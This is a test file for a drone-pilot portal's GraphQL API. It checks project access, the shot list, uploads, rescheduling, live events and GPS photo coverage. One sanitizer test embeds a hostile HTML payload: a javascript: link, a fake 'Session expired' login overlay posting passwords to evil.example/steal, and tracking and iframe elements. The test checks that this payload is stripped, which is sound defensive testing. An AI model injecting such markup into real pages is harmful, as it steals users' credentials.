// The pilot portal through the real GraphQL endpoint: the seeded pilot's projects, the detail and flight, the shot list
// and its status sort, uploads, mark complete, custom shots, the reschedule and the live events; bad input and role
// refusal for every call, and another pilot's project answering NOT_FOUND.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, eq } from 'drizzle-orm';
import { createClient } from 'graphql-ws';
import WebSocket from 'ws';
import { MANAGEMENT_MESSAGES, PILOT_FIELD_MESSAGES, PILOT_MESSAGES } from '@vms/shared';
import { createTestApp, errorCode, type GqlResult, type TestApp } from '../../test/test-app.js';
import { createProject, projects, users } from '../core/index.js';
import sharp from 'sharp';
import { pilotPhotoPositions, pilotShots } from './pilot.table.js';
import { insidePolygon } from './pilot.coverage.js';

let t: TestApp;
const WHO = ['pilot', 'rio.pilot', 'pm', 'admin', 'qa', 'qc', 'sales', 'customer', 'editor', 'broker'] as const;
const tokens = {} as Record<(typeof WHO)[number], string>;
beforeAll(async () => {
  t = await createTestApp({ RATE_LIMIT_PER_IP: '100000' });
  for (const who of WHO) tokens[who] = await t.login(`${who}@vms.test`);
});
afterAll(() => t?.close());

const LIST = `query { pilotProjectListing(limit: 1000, offset: 0) { projects { id projectName acceptedByPilot status planType } } }`;
type Item = { id: number; projectName: string; acceptedByPilot: boolean; status: string; planType: string };
const DETAIL = `query($projectId: ID!) { pilotProjectDetails(projectId: $projectId, dataSource: "VMS") { id projectName propertyAddress googleLink
  projectManagerContactDetails { fullName email phone } interiorContactDetails { name } assetType acceptedByPilot projectPlanDetails { planType projectDate } userInstructions { mapping_question_1 } } }`;
const FLIGHT = `query($projectId: ID!) { getFlightDetails(projectId: $projectId) { b4uLink approval timeStamp } }`;
const FLAGS = `query($projectId: ID!) { pilotFolderFlags(projectId: $projectId) { videoFolderFlag } }`;
const SHOTS = `query($projectId: ID!, $folderTypes: String, $status: String, $isMarkedCompleted: Boolean) { pilotAssetFoldersListing(projectId: $projectId, folderTypes: $folderTypes, status: $status, isMarkedCompleted: $isMarkedCompleted) { id title description exampleLink folderTypes uploadingPath isAssetUploaded isMarkedCompleted hasNoteAdded project { id projectName } } }`;
type ShotRow = {
  id: string;
  title: string;
  folderTypes: string;
  uploadingPath: string;
  isAssetUploaded: boolean;
  isMarkedCompleted: boolean;
  hasNoteAdded: boolean;
};
const MARK = `mutation($folderId: ID!, $projectId: ID!, $v: Boolean!) { pilotMarkCompleted(folderId: $folderId, projectId: $projectId, isMarkedCompleted: $v) { message shot { isMarkedCompleted } } }`;
const CUSTOM = `mutation($projectId: ID!, $title: String!, $description: String!) { pilotCustomFolders(title: $title, description: $description, folderTypes: "Custom", projectId: $projectId) { message shot { id title folderTypes uploadingPath } } }`;
const UPLOADED = `mutation($id: ID!, $v: Boolean!) { pilotAssetUploaded(id: $id, isAssetUploaded: $v) { id isAssetUploaded } }`;
const RESCHEDULE = `mutation($projectId: ID!, $dueDate: String!) { pilotFlightRescheduled(projectId: $projectId, dueDate: $dueDate, isScheduled: false) { message timeStamp } }`;
const ACCEPT = `mutation($projectId: ID!, $status: String!) { projectAcceptedByEditorOrPilot(projectId: $projectId, status: $status, flag: "PILOT") { message } }`;

const missing = (r: GqlResult) => {
  expect(errorCode(r)).toBe('NOT_FOUND');
  expect(r.errors![0]!.message).toBe(MANAGEMENT_MESSAGES.projectMissing);
};
const refused = (r: GqlResult) => expect(errorCode(r)).toBe('FORBIDDEN');
const bad = (r: GqlResult, message: string) => {
  expect(errorCode(r)).toBe('BAD_USER_INPUT');
  expect(r.errors![0]!.message).toBe(message);
};

async function listOf(token: string): Promise<Item[]> {
  const r = await t.gql<{ pilotProjectListing: { projects: Item[] } }>(LIST, {}, token);
  expect(r.errors).toBeUndefined();
  return r.data!.pilotProjectListing.projects;
}
async function shotsOf(projectId: number, vars: Record<string, unknown> = {}, token = tokens.pilot): Promise<ShotRow[]> {
  const r = await t.gql<{ pilotAssetFoldersListing: ShotRow[] }>(SHOTS, { projectId: String(projectId), ...vars }, token);
  expect(r.errors).toBeUndefined();
  return r.data!.pilotAssetFoldersListing;
}
const put = (key: string) => t.app.services.storage.driver.put(key, Buffer.from('jpeg bytes'), 'image/jpeg');

describe('pilot projects', () => {
  it("lists the pilot's own projects, the unanswered one first, and nobody else's", async () => {
    const mine = await listOf(tokens.pilot);
    expect(mine.length).toBeGreaterThan(2);
    expect(mine[0]!.acceptedByPilot).toBe(false);
    expect(mine.filter((p) => !p.acceptedByPilot)).toHaveLength(1);
    const rio = await listOf(tokens['rio.pilot']);
    const mineIds = new Set(mine.map((p) => p.id));
    expect(rio.some((p) => mineIds.has(p.id))).toBe(false);
    // staff see every project with a pilot
    expect((await listOf(tokens.pm)).length).toBeGreaterThanOrEqual(mine.length + rio.length);
  });

  it('refuses the roles the access table leaves out, and bad paging', async () => {
    for (const who of ['sales', 'customer', 'editor', 'broker'] as const) refused(await t.gql(LIST, {}, tokens[who]));
    expect(errorCode(await t.gql('query { pilotProjectListing(limit: 5000) { projects { id } } }', {}, tokens.pilot))).toBe(
      'BAD_USER_INPUT',
    );
  });

  it('gives the detail, flight and folder flags of an own project; NOT_FOUND for another pilot’s', async () => {
    const [first] = (await listOf(tokens.pilot)).filter((p) => p.acceptedByPilot && p.planType === 'PLATINUM');
    const d = await t.gql<{
      pilotProjectDetails: {
        projectName: string;
        projectManagerContactDetails: { email: string };
        assetType: string[];
        acceptedByPilot: boolean;
      };
    }>(DETAIL, { projectId: String(first!.id) }, tokens.pilot);
    expect(d.errors).toBeUndefined();
    expect(d.data!.pilotProjectDetails.projectName).toBe(first!.projectName);
    expect(d.data!.pilotProjectDetails.projectManagerContactDetails.email).toMatch(/@vms\.test$/);
    expect(d.data!.pilotProjectDetails.assetType).toEqual(['Video', 'Image']);
    expect(d.data!.pilotProjectDetails.acceptedByPilot).toBe(true);
    const f = await t.gql<{ getFlightDetails: { timeStamp: string } }>(FLIGHT, { projectId: String(first!.id) }, tokens.pilot);
    expect(f.data!.getFlightDetails.timeStamp).toMatch(/Z$/);
    const flags = await t.gql<{ pilotFolderFlags: { videoFolderFlag: boolean } }>(FLAGS, { projectId: String(first!.id) }, tokens.pilot);
    expect(flags.data!.pilotFolderFlags.videoFolderFlag).toBe(true);
    const [rios] = await listOf(tokens['rio.pilot']);
    for (const q of [DETAIL, FLIGHT, FLAGS, SHOTS]) missing(await t.gql(q, { projectId: String(rios!.id) }, tokens.pilot));
    for (const q of [DETAIL, FLIGHT, FLAGS]) refused(await t.gql(q, { projectId: String(first!.id) }, tokens.customer));
    missing(await t.gql(DETAIL, { projectId: 'nope' }, tokens.pilot));
  });
});

describe('the shot list', () => {
  let project: Item;
  beforeAll(async () => {
    project = (await listOf(tokens.pilot)).filter((p) => p.acceptedByPilot && p.planType === 'PLATINUM')[0]!;
  });

  it('holds the template video and image shots, each a folder of the project, and filters by type and status', async () => {
    const video = await shotsOf(project.id, { folderTypes: 'Video' });
    const image = await shotsOf(project.id, { folderTypes: 'Image' });
    expect(video.length).toBeGreaterThanOrEqual(6);
    expect(image.length).toBeGreaterThanOrEqual(6);
    expect(video[0]!.uploadingPath).toMatch(/^projects\/[0-9a-f-]{36}\/Aerial Imagery\/Aerial Footage\//);
    expect(image[0]!.uploadingPath).toContain('/Aerial Imagery/Aerial Photos/');
    expect((await shotsOf(project.id, { folderTypes: 'Sales' }, tokens.sales)).map((s) => s.title)).toContain('Customer-Provided Docs');
    expect(await shotsOf(project.id, { folderTypes: 'Video', status: 'COMPLETED' })).toEqual([]);
    expect((await shotsOf(project.id, { folderTypes: 'Video', status: 'NOT_STARTED' })).length).toBe(video.length);
    bad(await t.gql(SHOTS, { projectId: String(project.id), folderTypes: 'Audio' }, tokens.pilot), PILOT_FIELD_MESSAGES.folderType);
    bad(await t.gql(SHOTS, { projectId: String(project.id), status: 'DONE' }, tokens.pilot), PILOT_FIELD_MESSAGES.status);
    refused(await t.gql(SHOTS, { projectId: String(project.id) }, tokens.customer));
  });

  it('records an upload only when the folder holds a file, then marks it complete; the pilot cannot untick it', async () => {
    const [shot] = await shotsOf(project.id, { folderTypes: 'Image' });
    bad(await t.gql(UPLOADED, { id: shot!.id, v: true }, tokens.pilot), PILOT_MESSAGES.notUploaded);
    bad(await t.gql(MARK, { folderId: shot!.id, projectId: String(project.id), v: true }, tokens.pilot), PILOT_MESSAGES.notUploaded);
    await put(`${shot!.uploadingPath}/front.jpg`);
    const up = await t.gql<{ pilotAssetUploaded: { isAssetUploaded: boolean } }>(UPLOADED, { id: shot!.id, v: true }, tokens.pilot);
    expect(up.data!.pilotAssetUploaded.isAssetUploaded).toBe(true);
    expect((await shotsOf(project.id, { folderTypes: 'Image', status: 'NOT_COMPLETED' })).map((s) => s.id)).toEqual([shot!.id]);
    const done = await t.gql<{ pilotMarkCompleted: { message: string; shot: { isMarkedCompleted: boolean } } }>(
      MARK,
      { folderId: shot!.id, projectId: String(project.id), v: true },
      tokens.pilot,
    );
    expect(done.data!.pilotMarkCompleted.shot.isMarkedCompleted).toBe(true);
    expect((await shotsOf(project.id, { status: 'COMPLETED' })).map((s) => s.id)).toEqual([shot!.id]);
    refused(await t.gql(MARK, { folderId: shot!.id, projectId: String(project.id), v: false }, tokens.pilot));
    // the PM may reopen it
    const reopened = await t.gql<{ pilotMarkCompleted: { shot: { isMarkedCompleted: boolean } } }>(
      MARK,
      { folderId: shot!.id, projectId: String(project.id), v: false },
      tokens.pm,
    );
    expect(reopened.data!.pilotMarkCompleted.shot.isMarkedCompleted).toBe(false);
    for (const who of ['qa', 'sales', 'customer', 'editor'] as const)
      refused(await t.gql(MARK, { folderId: shot!.id, projectId: String(project.id), v: true }, tokens[who]));
    bad(await t.gql(MARK, { folderId: 'x', projectId: String(project.id), v: true }, tokens.pilot), PILOT_FIELD_MESSAGES.id);
    bad(
      await t.gql(MARK, { folderId: '00000000-0000-4000-8000-000000000000', projectId: String(project.id), v: true }, tokens.pilot),
      PILOT_MESSAGES.shotMissing,
    );
    // another pilot reaches neither the shot nor the project
    missing(await t.gql(UPLOADED, { id: shot!.id, v: true }, tokens['rio.pilot']));
    missing(await t.gql(MARK, { folderId: shot!.id, projectId: String(project.id), v: true }, tokens['rio.pilot']));
    refused(await t.gql(UPLOADED, { id: shot!.id, v: true }, tokens.sales));
  });

  it('adds a custom shot with its own folder; title and description are required and trimmed', async () => {
    const r = await t.gql<{ pilotCustomFolders: { shot: { id: string; title: string; folderTypes: string; uploadingPath: string } } }>(
      CUSTOM,
      { projectId: String(project.id), title: '  Roof HVAC  ', description: ' Close pass ' },
      tokens.pilot,
    );
    expect(r.errors).toBeUndefined();
    expect(r.data!.pilotCustomFolders.shot).toMatchObject({ title: 'Roof HVAC', folderTypes: 'Custom' });
    expect(r.data!.pilotCustomFolders.shot.uploadingPath).toMatch(/\/Custom Shots OR B Roll\/Roof HVAC$/);
    const again = await t.gql<{ pilotCustomFolders: { shot: { uploadingPath: string } } }>(
      CUSTOM,
      { projectId: String(project.id), title: 'Roof HVAC', description: 'x' },
      tokens.pm,
    );
    expect(again.data!.pilotCustomFolders.shot.uploadingPath).toMatch(/Roof HVAC \(2\)$/);
    expect((await shotsOf(project.id, { folderTypes: 'Custom' })).map((s) => s.title)).toEqual(
      expect.arrayContaining(['Roof HVAC', 'Roof HVAC (2)']),
    );
    bad(
      await t.gql(CUSTOM, { projectId: String(project.id), title: '   ', description: 'x' }, tokens.pilot),
      PILOT_FIELD_MESSAGES.titleRequired,
    );
    bad(
      await t.gql(CUSTOM, { projectId: String(project.id), title: 'x', description: '' }, tokens.pilot),
      PILOT_FIELD_MESSAGES.descriptionRequired,
    );
    for (const who of ['qa', 'sales', 'customer', 'editor'] as const)
      refused(await t.gql(CUSTOM, { projectId: String(project.id), title: 'x', description: 'y' }, tokens[who]));
    const [rios] = await listOf(tokens['rio.pilot']);
    missing(await t.gql(CUSTOM, { projectId: String(rios!.id), title: 'x', description: 'y' }, tokens.pilot));
  });

  it("keeps a pilot's description to formatting and links: no overlay or form reaches the PM (#34 finding 11)", async () => {
    const overlay =
      '<p>Fly <b>low</b> <a href="https://vms.example/guide" style="color:red">guide</a> <a href="javascript:alert(1)">x</a></p>' +
      '<div style="position:fixed;inset:0;z-index:9999;background:white"><h2>Session expired</h2><form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button></form></div>' +
      '<img src="https://evil.example/pixel.gif"><iframe src="https://evil.example"></iframe>';
    const r = await t.gql<{ pilotCustomFolders: { shot: { id: string } } }>(
      CUSTOM,
      { projectId: String(project.id), title: 'Overlay', description: overlay },
      tokens.pilot,
    );
    expect(r.errors).toBeUndefined();
    const clean = '<p>Fly <b>low</b> <a href="https://vms.example/guide">guide</a> <a>x</a></p><h2>Session expired</h2>Log in';
    const [stored] = await t.app.services.db
      .select({ description: pilotShots.description })
      .from(pilotShots)
      .where(eq(pilotShots.id, r.data!.pilotCustomFolders.shot.id));
    expect(stored!.description).toBe(clean);
    const seen = (await shotsOf(project.id, { folderTypes: 'Custom' }, tokens.pm)).find(
      (s) => s.id === r.data!.pilotCustomFolders.shot.id,
    ) as ShotRow & { description: string };
    expect(seen.description).toBe(clean);
    // a row stored before the allowlist existed is answered clean too
    await t.app.services.db.update(pilotShots).set({ description: overlay }).where(eq(pilotShots.id, r.data!.pilotCustomFolders.shot.id));
    const again = (await shotsOf(project.id, { folderTypes: 'Custom' }, tokens.pm)).find(
      (s) => s.id === r.data!.pilotCustomFolders.shot.id,
    ) as ShotRow & { description: string };
    expect(again.description).toBe(clean);
  });

  it('reschedules an accepted project within a month, as a UTC date-time', async () => {
    const at = new Date(Date.now() + 3 * 86_400_000);
    at.setUTCHours(15, 0, 0, 0);
    const r = await t.gql<{ pilotFlightRescheduled: { timeStamp: string } }>(
      RESCHEDULE,
      { projectId: String(project.id), dueDate: at.toISOString() },
      tokens.pilot,
    );
    expect(r.errors).toBeUndefined();
    expect(r.data!.pilotFlightRescheduled.timeStamp).toBe(at.toISOString());
    const f = await t.gql<{ getFlightDetails: { timeStamp: string } }>(FLIGHT, { projectId: String(project.id) }, tokens.pm);
    expect(f.data!.getFlightDetails.timeStamp).toBe(at.toISOString());
    bad(await t.gql(RESCHEDULE, { projectId: String(project.id), dueDate: 'tomorrow' }, tokens.pilot), PILOT_FIELD_MESSAGES.dueDate);
    bad(
      await t.gql(
        RESCHEDULE,
        { projectId: String(project.id), dueDate: new Date(Date.now() + 60 * 86_400_000).toISOString() },
        tokens.pilot,
      ),
      PILOT_FIELD_MESSAGES.rescheduleWindow,
    );
    for (const who of ['pm', 'admin', 'customer'] as const)
      refused(await t.gql(RESCHEDULE, { projectId: String(project.id), dueDate: at.toISOString() }, tokens[who]));
    const [pending] = (await listOf(tokens.pilot)).filter((p) => !p.acceptedByPilot);
    bad(await t.gql(RESCHEDULE, { projectId: String(pending!.id), dueDate: at.toISOString() }, tokens.pilot), PILOT_MESSAGES.notAccepted);
  });
});

describe('accept or decline', () => {
  it('accepts a new project (ACTIVE, told live to the PM), once; a declined one leaves the pilot', async () => {
    const db = t.app.services.db;
    const [pm] = await db.select().from(users).where(eq(users.email, 'pm@vms.test'));
    const [pilot] = await db.select().from(users).where(eq(users.email, 'pilot@vms.test'));
    const make = (name: string) =>
      db.transaction((tx) =>
        createProject(tx, t.app.services, {
          projectName: name,
          plan: 'PLATINUM',
          assetId: null,
          customerId: null,
          pmId: pm!.id,
          editorId: null,
          pilotId: pilot!.id,
        }),
      );
    const a = await make('Accept me');
    const b = await make('Decline me');
    expect((await db.select().from(pilotShots).where(eq(pilotShots.projectId, a.id))).length).toBeGreaterThan(10);
    const address = (await t.app.fastify.listen({ port: 0, host: '127.0.0.1' })).replace('http', 'ws') + '/graphql';
    const client = createClient({ url: address, webSocketImpl: WebSocket, connectionParams: { authorization: `Bearer ${tokens.pm}` } });
    const events: { status: string; projectNumber: number }[] = [];
    const stop = client.subscribe<{ pilotOrEditorInviteAccepted: { status: string; projectNumber: number } }>(
      { query: 'subscription { pilotOrEditorInviteAccepted { status projectNumber } }' },
      { next: (v) => void (v.data && events.push(v.data.pilotOrEditorInviteAccepted)), error: () => {}, complete: () => {} },
    );
    await new Promise((r) => setTimeout(r, 200));
    bad(
      await t.gql(ACCEPT.replace('"PILOT"', '"DRONE"'), { projectId: String(a.number), status: 'ACCEPTED' }, tokens.pilot),
      PILOT_FIELD_MESSAGES.inviteFlag,
    );
    bad(await t.gql(ACCEPT, { projectId: String(a.number), status: 'MAYBE' }, tokens.pilot), PILOT_FIELD_MESSAGES.inviteStatus);
    refused(await t.gql(ACCEPT, { projectId: String(a.number), status: 'ACCEPTED' }, tokens.pm));
    missing(await t.gql(ACCEPT, { projectId: String(a.number), status: 'ACCEPTED' }, tokens['rio.pilot']));
    const ok = await t.gql<{ projectAcceptedByEditorOrPilot: { message: string } }>(
      ACCEPT,
      { projectId: String(a.number), status: 'ACCEPTED' },
      tokens.pilot,
    );
    expect(ok.data!.projectAcceptedByEditorOrPilot.message).toBe(PILOT_MESSAGES.accepted);
    const [row] = await db.select().from(projects).where(eq(projects.id, a.id));
    expect(row!.status).toBe('ACTIVE');
    bad(await t.gql(ACCEPT, { projectId: String(a.number), status: 'ACCEPTED' }, tokens.pilot), PILOT_MESSAGES.alreadyAnswered);
    await t.gql(ACCEPT, { projectId: String(b.number), status: 'DECLINED' }, tokens.pilot);
    missing(await t.gql(DETAIL, { projectId: String(b.number) }, tokens.pilot));
    for (let i = 0; i < 20 && events.length < 2; i++) await new Promise((r) => setTimeout(r, 50));
    expect(events).toEqual(
      expect.arrayContaining([
        { status: 'ACCEPTED', projectNumber: a.number },
        { status: 'DECLINED', projectNumber: b.number },
      ]),
    );
    stop();
    await client.dispose();
  });
});

describe('live shot events', () => {
  it('tells the PM when a shot is marked complete', async () => {
    const [project] = (await listOf(tokens.pilot)).filter((p) => p.acceptedByPilot && p.planType === 'PLATINUM');
    const [shot] = await shotsOf(project!.id, { folderTypes: 'Video' });
    await put(`${shot!.uploadingPath}/orbit.mp4`);
    await t.gql(UPLOADED, { id: shot!.id, v: true }, tokens.pilot);
    const address = t.app.fastify.server.address() as { port: number } | null;
    const url = address
      ? `ws://127.0.0.1:${address.port}/graphql`
      : (await t.app.fastify.listen({ port: 0, host: '127.0.0.1' })).replace('http', 'ws') + '/graphql';
    const client = createClient({ url, webSocketImpl: WebSocket, connectionParams: { authorization: `Bearer ${tokens.pm}` } });
    const got: { folderId: string; action: string }[] = [];
    client.subscribe<{ pilotMarkCompletedFolder: { folderId: string; action: string } }>(
      { query: `subscription { pilotMarkCompletedFolder(projectId: "${project!.id}") { folderId action } }` },
      { next: (v) => void (v.data && got.push(v.data.pilotMarkCompletedFolder)), error: () => {}, complete: () => {} },
    );
    await new Promise((r) => setTimeout(r, 200));
    await t.gql(MARK, { folderId: shot!.id, projectId: String(project!.id), v: true }, tokens.pilot);
    for (let i = 0; i < 20 && !got.length; i++) await new Promise((r) => setTimeout(r, 50));
    expect(got).toEqual([{ folderId: shot!.id, action: 'MARKED_COMPLETE' }]);
    await client.dispose();
    const [row] = await t.app.services.db
      .select()
      .from(pilotShots)
      .where(and(eq(pilotShots.id, shot!.id)));
    expect(row!.isMarkedCompleted).toBe(true);
  });
});

describe('coverage (beyond the spec)', () => {
  it('counts the videos and photos in the shot folders against the minimums', async () => {
    const [project] = (await listOf(tokens.pilot)).filter((p) => p.acceptedByPilot && p.planType === 'PLATINUM');
    const Q = 'query($p: ID!) { pilotCoverage(projectId: $p) { videos photos minVideos minPhotos } }';
    const before = await t.gql<{ pilotCoverage: { videos: number; photos: number; minVideos: number; minPhotos: number } }>(
      Q,
      { p: String(project!.id) },
      tokens.pm,
    );
    const [video] = await shotsOf(project!.id, { folderTypes: 'Video' });
    const [image] = await shotsOf(project!.id, { folderTypes: 'Image' });
    await put(`${video!.uploadingPath}/pass-1.mp4`);
    await put(`${image!.uploadingPath}/corner-1.jpg`);
    await put(`${image!.uploadingPath}/corner-2.jpg`);
    const after = await t.gql<{ pilotCoverage: { videos: number; photos: number; minVideos: number; minPhotos: number } }>(
      Q,
      { p: String(project!.id) },
      tokens.pilot,
    );
    expect(after.data!.pilotCoverage).toEqual({
      videos: before.data!.pilotCoverage.videos + 1,
      photos: before.data!.pilotCoverage.photos + 2,
      minVideos: 16,
      minPhotos: 25,
    });
    refused(await t.gql(Q, { p: String(project!.id) }, tokens.customer));
    const [rios] = await listOf(tokens['rio.pilot']);
    missing(await t.gql(Q, { p: String(rios!.id) }, tokens.pilot));
  });
});

/** A small JPEG carrying this GPS position in its EXIF (degrees, minutes and seconds as rationals, as cameras write). */
async function photoAt(lat: number, lng: number): Promise<Buffer> {
  const dms = (v: number) => {
    const a = Math.abs(v);
    const d = Math.floor(a);
    const m = Math.floor((a - d) * 60);
    const s = Math.round(((a - d) * 60 - m) * 60 * 10_000);
    return `${d}/1 ${m}/1 ${s}/10000`;
  };
  return sharp({ create: { width: 48, height: 32, channels: 3, background: '#3a6ea5' } })
    .withExif({
      IFD3: { GPSLatitudeRef: lat >= 0 ? 'N' : 'S', GPSLatitude: dms(lat), GPSLongitudeRef: lng >= 0 ? 'E' : 'W', GPSLongitude: dms(lng) },
    })
    .jpeg()
    .toBuffer();
}

describe('coverage: photo positions against the boundary (beyond the spec)', () => {
  it('places each photo with GPS inside or outside the seeded boundary, counts those without, and reads each once', async () => {
    const Q =
      'query($p: ID!) { pilotCoverage(projectId: $p) { photos boundary { lat lng } positions { name lat lng inside } photosWithoutPosition } }';
    type C = {
      photos: number;
      boundary: { lat: number; lng: number }[];
      positions: { name: string; lat: number; lng: number; inside: boolean | null }[];
      photosWithoutPosition: number;
    };
    // project 1, pilot@vms.test's seeded PLATINUM project (the tests above add projects without a drawn boundary)
    const project = (await listOf(tokens.pilot)).find((p) => p.id === 1);
    const before = (await t.gql<{ pilotCoverage: C }>(Q, { p: String(project!.id) }, tokens.pilot)).data!.pilotCoverage;
    expect(before.boundary).toHaveLength(4);
    const lat = before.boundary.reduce((a, p) => a + p.lat, 0) / 4;
    const lng = before.boundary.reduce((a, p) => a + p.lng, 0) / 4;
    const [shot] = await shotsOf(project!.id, { folderTypes: 'Image' });
    const driver = t.app.services.storage.driver;
    await driver.put(`${shot!.uploadingPath}/gps-centre.jpg`, await photoAt(lat, lng), 'image/jpeg');
    await driver.put(`${shot!.uploadingPath}/gps-next-block.jpg`, await photoAt(lat + 0.002, lng), 'image/jpeg');
    await driver.put(
      `${shot!.uploadingPath}/no-gps.jpg`,
      await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
        .jpeg()
        .toBuffer(),
      'image/jpeg',
    );
    const after = (await t.gql<{ pilotCoverage: C }>(Q, { p: String(project!.id) }, tokens.pm)).data!.pilotCoverage;
    expect(after.photos).toBe(before.photos + 3);
    expect(after.photosWithoutPosition).toBe(before.photosWithoutPosition + 1);
    const at = (name: string) => after.positions.find((p) => p.name === name)!;
    expect(at('gps-centre.jpg').inside).toBe(true);
    expect(at('gps-centre.jpg').lat).toBeCloseTo(lat, 5);
    expect(at('gps-centre.jpg').lng).toBeCloseTo(lng, 5);
    expect(at('gps-next-block.jpg').inside).toBe(false);
    // read once: a rewritten file keeps its first reading until it is deleted, then its row goes
    const rows = await t.app.services.db
      .select()
      .from(pilotPhotoPositions)
      .where(eq(pilotPhotoPositions.key, `${shot!.uploadingPath}/gps-centre.jpg`));
    expect(rows).toHaveLength(1);
    await driver.delete(`${shot!.uploadingPath}/gps-centre.jpg`);
    const gone = (await t.gql<{ pilotCoverage: C }>(Q, { p: String(project!.id) }, tokens.pilot)).data!.pilotCoverage;
    expect(gone.positions.find((p) => p.name === 'gps-centre.jpg')).toBeUndefined();
    expect(
      await t.app.services.db
        .select()
        .from(pilotPhotoPositions)
        .where(eq(pilotPhotoPositions.key, `${shot!.uploadingPath}/gps-centre.jpg`)),
    ).toHaveLength(0);
  });

  it('decides inside and outside by ray casting, edges of a concave boundary included', () => {
    const ring = [
      { lat: 0, lng: 0 },
      { lat: 0, lng: 4 },
      { lat: 4, lng: 4 },
      { lat: 4, lng: 0 },
      { lat: 2, lng: 2 },
    ];
    expect(insidePolygon({ lat: 1, lng: 2 }, ring)).toBe(true);
    expect(insidePolygon({ lat: 2, lng: 1 }, ring)).toBe(false); // in the notch
    expect(insidePolygon({ lat: 3, lng: 3.5 }, ring)).toBe(true);
    expect(insidePolygon({ lat: 5, lng: 1 }, ring)).toBe(false);
  });
});
